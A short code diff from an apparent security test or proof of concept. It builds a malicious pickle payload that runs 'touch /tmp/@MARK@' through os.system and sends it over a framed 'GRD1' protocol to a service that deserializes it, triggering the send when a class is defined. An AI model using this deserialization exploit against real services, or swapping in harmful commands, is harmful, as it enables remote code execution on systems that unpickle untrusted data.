@@ -29,8 +29,15 @@ def send(data):
 
 
 body = b"cposix\nsystem\n(S'touch /tmp/@MARK@'\ntR."
-header = json.dumps({"id": 1, "data": {"document": {}}}).encode()
-send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", len(body)) + body)
+
+
+def attack():
+    header = json.dumps({"id": 1, "data": {"document": {}}}).encode()
+    send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", len(body)) + body)
+
+
+class Attack:
+    attack()
 
 
 def compare(epochs, seed, train, test):
